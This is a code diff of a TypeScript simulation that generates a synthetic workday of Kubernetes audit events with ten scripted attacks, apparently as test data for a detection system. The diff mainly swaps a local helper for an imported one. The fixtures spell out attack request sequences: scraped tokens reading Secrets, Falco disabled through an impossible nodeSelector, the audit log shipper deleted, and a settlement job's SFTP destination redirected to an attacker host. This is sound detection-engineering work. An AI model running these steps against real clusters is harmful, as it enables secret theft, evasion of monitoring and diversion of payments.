@@ -1,4 +1,4 @@
-import { WS_UPGRADE, prng, withAttacks, attackAdder, type AttackRequest, type DayEvent, type Login } from './workday.js';
+import { attackAdder, type AttackRequest, type DayEvent, lastScoredOf, type Login, prng, withAttacks, WS_UPGRADE } from './workday.js';
 
 /**
  * A fifteenth replayed day, written as an outside red team and an outside observer would after
@@ -316,13 +316,6 @@ export function workday15(seed = 131): DayEvent[] {
   return withAttacks(events, attacks15(people, events));
 }
 
-/** The victim's request last at or before `t` on the scored day, among those `match` picks. */
-function lastOf(routine: readonly DayEvent[], actor: string, t: number, match: (e: DayEvent) => boolean): DayEvent {
-  let e: DayEvent | undefined;
-  for (const x of routine) if (x.actor === actor && x.scored && match(x) && (e === undefined || x.at <= t)) e = x;
-  return e!;
-}
-
 /**
  * The ten attacks, each with the token, address and client it would really have: a scraped token
  * is the victim's login at that moment, sent from another VDI session (another address of the
@@ -341,7 +334,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // (`%APPDATA%\..\.kube\cache\oidc-login`, readable through a misconfigured share ACL) and uses
   // it from its own session: the farm's NAT, the farm's kubectl build. What the engineer reads.
   const p4 = by('pay-4');
-  const v4 = lastOf(routine, p4.name, T(14.5), kubectl);
+  const v4 = lastScoredOf(routine, p4.name, T(14.5), kubectl);
   add("VDI farm: a payments engineer's token scraped from the roaming profile, used from another session", T(14.55), VDI_NAT[2]!, KUBECTL_VDI, v4.login, on([
     ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500', false],
     ['GET', '/api/v1/namespaces/payments-uat/secrets/payments-api-db', true],
@@ -352,7 +345,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 2. The same from a SOC analyst's profile: the analyst looks at every namespace all day, so
   // the attacker's reads are theirs; the first Secret is not.
   const s2 = by('soc-2');
-  const vs2 = lastOf(routine, s2.name, T(13.2), kubectl);
+  const vs2 = lastScoredOf(routine, s2.name, T(13.2), kubectl);
   add("VDI farm: a SOC analyst's scraped token reads settlement-prod's SFTP credentials", T(13.25), VDI_NAT[1]!, KUBECTL_VDI, vs2.login, on([
     ['GET', '/api/v1/namespaces/settlement-prod/pods?limit=500', false],
     ['GET', '/api/v1/namespaces/settlement-prod/secrets/sftp-bacs', true],
@@ -372,7 +365,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 4–6. The auditor's read-only token (the day account's kubeconfig, left in the auditor's VDI
   // profile) at 17:40, after the auditor has gone: Secrets' contents through side doors.
   const au = by('auditor');
-  const va = lastOf(routine, au.name, T(16.9), kubectl);
+  const va = lastScoredOf(routine, au.name, T(16.9), kubectl);
   add("auditor's read-only token: a ConfigMap, a pod's and a Deployment's inline env, old ReplicaSets", T(17.65), VDI_NAT[3]!, KUBECTL_VDI, va.login, on([
     ['GET', '/api/v1/namespaces/payments-prod/configmaps?limit=500', false],
     ['GET', '/api/v1/namespaces/payments-prod/configmaps/fx-quotes-config', true],
@@ -391,7 +384,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 7. The vendor's VPN: malware on a vendor engineer's laptop, with their token, from the VPN's
   // egress, reaches for payments (the site-to-site tunnel routes the whole cluster, not just recon).
   const ve = by('vendor-2');
-  const vv = lastOf(routine, ve.name, T(9), kubectl);
+  const vv = lastScoredOf(routine, ve.name, T(9), kubectl);
   add("vendor VPN token used to reach payments", T(9.1), VENDOR_VPN, vv.ua, vv.login, on([
     ['GET', '/api/v1/namespaces?limit=500', false],
     ['GET', '/api/v1/namespaces/payments-prod/services/payments-api:8080/proxy/actuator/env', true],
@@ -401,7 +394,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 8. The change freeze: an engineer named on the ticket pushes their own build to production at
   // 16:40, four hours after the approved window closed. They can sign in.
   const p1 = by('pay-1');
-  const vp1 = lastOf(routine, p1.name, T(16.6), kubectl);
+  const vp1 = lastScoredOf(routine, p1.name, T(16.6), kubectl);
   add("insider pushes a change to production outside the freeze's approved window", T(16.67), vp1.ip, vp1.ua, vp1.login, on([
     ['GET', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api', false],
     ['PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.northbank.example/payments/payments-api:hotfix-4411' }] } } } })],
@@ -412,7 +405,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // Falco (the standard trick: a nodeSelector no node has, so every Falco pod goes away), deletes
   // the audit-shipping DaemonSet, then reads a Secret.
   const pl = by('platform-3');
-  const vpl = lastOf(routine, pl.name, T(15), kubectl);
+  const vpl = lastScoredOf(routine, pl.name, T(15), kubectl);
   add('Falco paused with an impossible nodeSelector and the log shipper deleted, then a Secret (platform token)', T(15.05), vpl.ip, vpl.ua, vpl.login, on([
     ['GET', '/apis/apps/v1/namespaces/falco/daemonsets/falco', false],
     ['PATCH', '/apis/apps/v1/namespaces/falco/daemonsets/falco', true, SMP, JSON.stringify({ spec: { template: { spec: { nodeSelector: { 'non-existing': 'true' } } } } })],
@@ -423,7 +416,7 @@ function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 10. The evening before the settlement run: the night CronJob's SFTP destination changed (the
   // BACS payment file goes to the attacker's host), from a batch operator's VDI token at 21:30.
   const b2 = by('batch-2');
-  const vb2 = lastOf(routine, b2.name, T(14.9), kubectl);
+  const vb2 = lastScoredOf(routine, b2.name, T(14.9), kubectl);
   add("settlement CronJob's payout destination changed the evening before the run (batch operator's token)", T(21.5), VDI_NAT[2]!, KUBECTL_VDI, vb2.login, on([
     ['GET', '/apis/batch/v1/namespaces/settlement-prod/cronjobs/settlement-eod', false],
     ['PATCH', '/apis/batch/v1/namespaces/settlement-prod/cronjobs/settlement-eod', true, SMP, JSON.stringify({ spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'settle', env: [{ name: 'SFTP_HOST', value: 'sftp.bacs-clearing.net' }] }] } } } } } })],
